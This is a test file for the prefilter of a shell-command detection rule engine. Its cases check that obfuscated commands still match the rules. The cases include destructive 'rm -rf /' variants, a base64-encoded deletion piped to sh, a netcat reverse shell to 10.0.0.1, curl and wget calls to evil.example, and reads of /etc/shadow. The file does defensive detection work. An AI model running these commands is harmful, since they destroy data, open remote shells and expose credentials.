import { describe, expect, it } from 'vitest';
import { compileRuleSet } from './compile-rule-set';
import { formatRuleProblems, loadRuleSet } from './load-rule-set';
import { factsOf } from './facts';
import { isPlainLine, Prefilter, unquotedPlainText } from './prefilter';
import { commandEvent, ruleFile } from '../../../bench/support/rule-factory';

/**
 * The plain-line shortcut of the prefilter (prefilter.ts): on a line without quotes,
 * backslashes, `$`, backticks or non-ASCII, keywords are looked for in the line itself
 * instead of in the parsed commands. These lines put the parsed text where the line
 * does not have it verbatim (a redirection between arguments, tabs, `find -exec`,
 * `eval`, wrappers, paths), and each rule must still be a candidate when it matches.
 */
function rule(id: string, conditions: unknown): ReturnType<typeof ruleFile> {
  return ruleFile({ id, conditions });
}

const anyCommand = (value: unknown): unknown => ({
  all: [{ fact: 'commands', operator: 'anyCommand', value }],
});

const RULES = [
  rule('SW-TST-0001', anyCommand({ args: { containsI: '-rf /' } })),
  rule('SW-TST-0002', anyCommand({ program: 'rm' })),
  rule('SW-TST-0003', anyCommand({ raw: { regex: 'rm -rf /tmp/x$' } })),
  rule('SW-TST-0004', anyCommand({ redirect: { containsI: '/tmp/.x' } })),
  rule('SW-TST-0005', { all: [{ fact: 'isRoot', operator: 'equal', value: true }] }),
  rule('SW-TST-0006', { all: [{ fact: 'programs', operator: 'contains', value: 'ls' }] }),
  rule('SW-TST-0007', anyCommand({ wrappedBy: 'nohup', program: 'id' })),
  rule('SW-TST-0008', { all: [{ fact: 'commandLine', operator: 'containsI', value: 'A  B' }] }),
  rule('SW-TST-0009', anyCommand({ elevated: true })),
];

const CASES: { line: string; user?: { name: string; id: string }; expected: string[] }[] = [
  { line: 'rm -rf 2>/dev/null /', expected: ['SW-TST-0001', 'SW-TST-0002'] },
  { line: 'rm\t-rf\t/', expected: ['SW-TST-0001', 'SW-TST-0002'] },
  { line: 'RM -RF   /', expected: ['SW-TST-0001'] },
  { line: '/bin/rm -f x;ls', expected: ['SW-TST-0002', 'SW-TST-0006'] },
  {
    line: 'find /tmp -name x -exec rm -rf /tmp/x ;',
    expected: ['SW-TST-0001', 'SW-TST-0002', 'SW-TST-0003'],
  },
  { line: 'eval rm    -rf /tmp/x', expected: ['SW-TST-0001', 'SW-TST-0002', 'SW-TST-0003'] },
  { line: 'echo x >/tmp/.x', expected: ['SW-TST-0004'] },
  { line: 'echo x 1> /TMP/.X', expected: ['SW-TST-0004'] },
  { line: 'id', user: { name: 'root', id: '0' }, expected: ['SW-TST-0005'] },
  { line: 'sudo -u root id', expected: ['SW-TST-0005', 'SW-TST-0009'] },
  { line: 'doas id', expected: ['SW-TST-0005', 'SW-TST-0009'] },
  { line: 'su -c id', expected: ['SW-TST-0005', 'SW-TST-0009'] },
  { line: 'sudo -u alice id', expected: ['SW-TST-0009'] },
  { line: '/usr/bin/sudo -i', expected: ['SW-TST-0005', 'SW-TST-0009'] },
  { line: 'ls /etc/sudoers.d', expected: ['SW-TST-0006'] },
  { line: 'ls', expected: ['SW-TST-0006'] },
  { line: 'lsblk', expected: [] },
  { line: 'nohup id&', expected: ['SW-TST-0007'] },
  { line: 'echo a  b', expected: ['SW-TST-0008'] },
  // A command inside an option value: a program not at a word start (module comment).
  { line: 'env -Srm -rf /', expected: ['SW-TST-0002'] },
  { line: '/usr/bin/env -iSrm -rf /tmp/x', expected: ['SW-TST-0002', 'SW-TST-0003'] },
  { line: 'env --split-string=rm x', expected: ['SW-TST-0002'] },
  { line: 'su -cls', expected: ['SW-TST-0005', 'SW-TST-0006', 'SW-TST-0009'] },
  { line: 'su --command=ls', expected: ['SW-TST-0005', 'SW-TST-0006', 'SW-TST-0009'] },
  // Text a shell reads on stdin is parsed as commands (stdin-scripts.ts): echo's and a
  // here-string's words are pieces of the line; printf's output and decoded payloads
  // are not, so a line naming printf or a decoder is scanned the parsed way too.
  { line: 'echo rm -rf /tmp/x | bash', expected: ['SW-TST-0001', 'SW-TST-0002', 'SW-TST-0003'] },
  { line: 'bash <<< ls', expected: ['SW-TST-0006'] },
  { line: 'printf %s%s r m | sh', expected: ['SW-TST-0002'] },
  // As for `sudo -u bob sh -c ls`: the script's commands are elevated, with no target user.
  {
    line: 'printf %s%s%s ls | sudo -u bob sh',
    expected: ['SW-TST-0005', 'SW-TST-0006', 'SW-TST-0009'],
  },
  { line: 'echo cm0gLXJmIC8= | base64 -d | sh', expected: ['SW-TST-0001', 'SW-TST-0002'] },
  { line: 'xxd -r -p <<< 6c73 | sh', expected: ['SW-TST-0006'] },
];

describe('prefilter on plain lines', () => {
  const loaded = loadRuleSet(RULES);
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const withPrefilter = compileRuleSet(loaded.ruleSet);
  const without = compileRuleSet(loaded.ruleSet, { prefilter: false });

  const ids = (matches: { rule: { id: string } }[]): string[] => matches.map((m) => m.rule.id);

  it.each(CASES)('$line', ({ line, user, expected }) => {
    expect(isPlainLine(line)).toBe(true);
    const event = commandEvent(line, user === undefined ? {} : { user });
    expect(ids(without.evaluate(event))).toEqual(expected);
    expect(ids(withPrefilter.evaluate(event))).toEqual(expected);
  });

  it('runs only the `any` children whose condition the line meets, with the same leaves', () => {
    const gated = loadRuleSet([
      rule('SW-TST-0101', {
        any: [
          anyCommand({ program: 'curl', anyArg: { containsI: 'evil' } }),
          { fact: 'commandLine', operator: 'containsI', value: 'wget' },
          // No necessary condition: runs whatever the line.
          { fact: 'process', path: '$.exit_code', operator: 'equal', value: 7 },
          anyCommand({ program: 'nc', hasAnyFlag: ['e'] }),
        ],
      }),
    ]);
    if (!gated.ok) throw new Error(formatRuleProblems(gated.errors));
    expect(compileRuleSet(gated.ruleSet).prefilterStats?.gatedRules).toBe(1);
    const on = compileRuleSet(gated.ruleSet);
    const off = compileRuleSet(gated.ruleSet, { prefilter: false });
    const lines = [
      'curl http://evil.example/x',
      'curl http://good.example/x; wget http://evil.example/',
      'nc -e /bin/sh 10.0.0.1 4444',
      'nc -l 4444',
      'ls',
      'curl -o x http://a/ ; nc -e sh b 1',
    ];
    let matched = 0;
    for (const line of lines) {
      for (const process of [{ command_line: line }, { command_line: line, exit_code: 7 }]) {
        const event = commandEvent(line, { process });
        const expected = off.evaluate(event);
        expect(on.evaluate(event)).toEqual(expected);
        matched += expected.length;
      }
    }
    // Not vacuous: 4 lines match by their words, and all 6 again with exit code 7.
    expect(matched).toBe(4 + 6);
  });

  it('runs an `elevated: true` rule only on lines naming sudo, doas or su', () => {
    expect(withPrefilter.prefilterStats?.alwaysCandidates).toBe(0);
    const prefilter = new Prefilter(loaded.ruleSet.rules, loaded.ruleSet.context);
    const candidates = (line: string): string[] =>
      prefilter.candidates(factsOf(commandEvent(line))).map((r) => r.definition.id);
    expect(candidates('ls -la /tmp')).not.toContain('SW-TST-0009');
    expect(candidates('id')).toEqual([]);
    for (const line of ['sudo id', 'doas id', 'su -', 'nohup sudo id'])
      expect(candidates(line)).toContain('SW-TST-0009');
  });

  it('takes a program name only as a word or the tail of a path', () => {
    const prefilter = new Prefilter(loaded.ruleSet.rules, loaded.ruleSet.context);
    const candidates = (line: string): string[] =>
      prefilter.candidates(factsOf(commandEvent(line))).map((r) => r.definition.id);
    for (const line of ['echo form', 'git confirm x', 'cat alarm.log'])
      expect([line, candidates(line)]).toEqual([line, []]);
    for (const line of ['rm x', '/bin/rm x', 'x;rm', '(rm x)', 'a|rm', 'nohup rm'])
      expect([line, candidates(line)]).toEqual([line, ['SW-TST-0002']]);
  });

  it('parses lines with brace expansion or absolute globs, which make words the line lacks', () => {
    const scannedAsWritten = (line: string): boolean => unquotedPlainText(line) !== undefined;
    for (const line of [
      '{rm,-rf,/}',
      'echo {a..c}',
      'r{m,} x',
      'cat /etc/shado[w]',
      'cat /e?c/*',
      // Quoted, but a script the parser re-reads expands them all the same.
      "sh -c 'cat /etc/shad*'",
      "docker exec web sh -c '{rm,-rf,/var/log}'",
    ])
      expect([line, scannedAsWritten(line)]).toEqual([line, false]);
    for (const line of ['ls *.txt', 'find . -exec rm {} ;', 'echo a,b {x}', "find . -name '*.log'"])
      expect([line, scannedAsWritten(line)]).toEqual([line, true]);
    expect(ids(withPrefilter.evaluate(commandEvent('{rm,-rf,/}')))).toEqual([
      'SW-TST-0001',
      'SW-TST-0002',
    ]);
    expect(ids(withPrefilter.evaluate(commandEvent('/???/l[s] /tmp')))).toEqual(['SW-TST-0006']);
    expect(ids(withPrefilter.evaluate(commandEvent("sh -c '/???/l[s] /tmp'")))).toEqual([
      'SW-TST-0006',
    ]);
  });

  it('takes lines the parser rewrites to the full path', () => {
    for (const line of [`r''m -rf /`, 'r"m" x', 'r\\m x', '$(echo rm) x', '`id`', 'rm ÿ'])
      expect(isPlainLine(line)).toBe(false);
  });
});

/**
 * Lines whose only parser-relevant characters are balanced quotes, none inside the
 * other kind, are scanned as written and with their quotes removed instead of parsed.
 * Each line here has the rule's text only once its quotes are gone (or only with
 * them, for the raw text and the line itself).
 */
const QUOTED_CASES: { line: string; expected: string[] }[] = [
  { line: `r''m -rf /`, expected: ['SW-TST-0001', 'SW-TST-0002'] },
  { line: `"rm" "-rf" '/'`, expected: ['SW-TST-0001', 'SW-TST-0002'] },
  { line: `'/bin/rm' -f x;"ls"`, expected: ['SW-TST-0002', 'SW-TST-0006'] },
  { line: `echo x >"/tmp/.x"`, expected: ['SW-TST-0004'] },
  { line: `"sudo" id`, expected: ['SW-TST-0005', 'SW-TST-0009'] },
  { line: `sudo sh -c "id; ls"`, expected: ['SW-TST-0005', 'SW-TST-0006', 'SW-TST-0009'] },
  { line: `nohup 'i'd&`, expected: ['SW-TST-0007'] },
  { line: `grep "a  b" f`, expected: ['SW-TST-0008'] },
  { line: `sh -c "rm -rf /tmp/x"`, expected: ['SW-TST-0001', 'SW-TST-0002', 'SW-TST-0003'] },
  { line: `echo "it's" 'say "hi"'`, expected: [] },
];

describe('prefilter on lines with simple quotes', () => {
  const loaded = loadRuleSet(RULES);
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const withPrefilter = compileRuleSet(loaded.ruleSet);
  const without = compileRuleSet(loaded.ruleSet, { prefilter: false });
  const ids = (matches: { rule: { id: string } }[]): string[] => matches.map((m) => m.rule.id);

  it.each(QUOTED_CASES)('$line', ({ line, expected }) => {
    const event = commandEvent(line);
    expect(ids(without.evaluate(event))).toEqual(expected);
    expect(ids(withPrefilter.evaluate(event))).toEqual(expected);
  });

  it('removes quote characters only where the parser would', () => {
    expect(unquotedPlainText('ls -la /tmp')).toBe('ls -la /tmp');
    expect(unquotedPlainText(`r''m -rf "/"`)).toBe('rm -rf /');
    expect(unquotedPlainText(`grep "a b" 'c d'`)).toBe('grep a b c d');
    // Unbalanced, or one kind inside the other: parsed.
    for (const line of [`echo "a`, `echo 'a`, `echo "it's"`, `sh -c "r'm' -rf /"`, 'a $b', 'a\\b'])
      expect(unquotedPlainText(line)).toBeUndefined();
  });

  it('leaves a quote inside the other kind to the parser, which re-parses scripts', () => {
    // Kept literally by the outer parse and removed by the parse of `sh -c`'s script:
    // `rm` appears in neither the line nor the line without its outer quotes.
    const event = commandEvent(`sh -c "r'm' -rf /"`);
    expect(ids(without.evaluate(event))).toEqual(['SW-TST-0001', 'SW-TST-0002']);
    expect(ids(withPrefilter.evaluate(event))).toEqual(['SW-TST-0001', 'SW-TST-0002']);
  });
});

/**
 * A `program` or `anyArg` matcher that fixes how the field starts (`startsWithI`, a regex
 * anchored with `^`) is looked for at a word start only: after a word end or a `/` on a
 * plain line, at the start of the parsed field otherwise.
 */
describe('prefilter on word starts', () => {
  const loaded = loadRuleSet([
    rule('SW-TST-0201', anyCommand({ program: { regex: '^\\.[A-Za-z0-9_-]' } })),
    rule('SW-TST-0202', anyCommand({ program: 'docker', anyArg: { regex: '^10[.][0-9]' } })),
    rule('SW-TST-0203', anyCommand({ anyArg: { startsWithI: ['-e', '--exec='] } })),
  ]);
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const withPrefilter = compileRuleSet(loaded.ruleSet);
  const without = compileRuleSet(loaded.ruleSet, { prefilter: false });
  const prefilter = new Prefilter(loaded.ruleSet.rules, loaded.ruleSet.context);
  const ids = (matches: { rule: { id: string } }[]): string[] => matches.map((m) => m.rule.id);
  const candidates = (line: string): string[] =>
    prefilter.candidates(factsOf(commandEvent(line))).map((r) => r.definition.id);

  it.each([
    ['./.k x', ['SW-TST-0201']],
    ['/tmp/.x/.K;id', ['SW-TST-0201']],
    ['cd /tmp && ./.x', ['SW-TST-0201']],
    ['nohup .hidden&', ['SW-TST-0201']],
    [`"./.k" x`, ['SW-TST-0201']],
    ['./.k $HOME', ['SW-TST-0201']],
    ['docker pull 10.0.0.1/x', ['SW-TST-0202']],
    ['docker run --rm img 10.2', ['SW-TST-0202']],
    [`docker pull '10.0.0.1/x'`, ['SW-TST-0202']],
    ['docker pull $R 10.0.0.1/x', ['SW-TST-0202']],
    ['nc -E x', ['SW-TST-0203']],
    ['find . --exec=x', ['SW-TST-0203']],
    [`nc "-e" x`, ['SW-TST-0203']],
    ['nc $A -e x', ['SW-TST-0203']],
  ] as const)('%s', (line, expected) => {
    const event = commandEvent(line);
    expect(ids(without.evaluate(event))).toEqual(expected);
    expect(ids(withPrefilter.evaluate(event))).toEqual(expected);
  });

  it('leaves out lines that hold the text only inside a word', () => {
    for (const line of [
      'cat file.ext',
      'docker run img:10.25',
      'ls x-e y--exec=1',
      'cat a.b $HOME',
      'docker pull img:10.2.3 $X',
    ])
      expect([line, candidates(line)]).toEqual([line, []]);
  });
});
